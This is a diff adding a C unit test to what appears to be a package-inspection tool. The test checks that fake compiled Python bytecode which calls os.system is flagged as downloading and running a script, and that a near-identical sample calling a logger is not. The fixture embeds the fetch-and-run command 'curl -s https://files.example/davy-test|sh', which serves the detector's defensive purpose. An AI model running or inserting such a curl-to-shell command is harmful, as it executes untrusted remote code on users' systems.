@@ -162,3 +162,15 @@ TEST(where_packages_come_from)
     look("/etc/other.conf", "index-url = https://pypi.example.org/simple\n");
     CHECK(!facts_has(&facts, F_PACKAGE_INDEXES) && !facts_has(&facts, F_PACKAGE_MANAGER));
 }
+
+/* Compiled Python: only texts that can be nothing but commands are. */
+TEST(compiled_python)
+{
+    static const char CODE[] = "\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0\xda\2os\xda\6system\xfa\x2a" "curl -s https://files.example/davy-test|sh\xda\5hello";
+    look_with(&(struct inspect_options){.only = (const char *const[]){"package", NULL}}, "/x/a.pyc", str_n(CODE, sizeof(CODE) - 1), &facts);
+    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(https://files.example/davy-test)");
+    CHECK_CSTR(list(F_PACKAGE_SCRIPTS), "(curl -s https://files.example/davy-test|sh)");
+    static const char OTHER[] = "\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0\xda\2os\xda\6logger\xfa\x2a" "curl -s https://files.example/davy-test|sh\xda\5hello";
+    look_with(&(struct inspect_options){.only = (const char *const[]){"package", NULL}}, "/x/a.pyc", str_n(OTHER, sizeof(OTHER) - 1), &facts);
+    CHECK(!facts_has(&facts, F_SCRIPT_DOWNLOADS));
+}
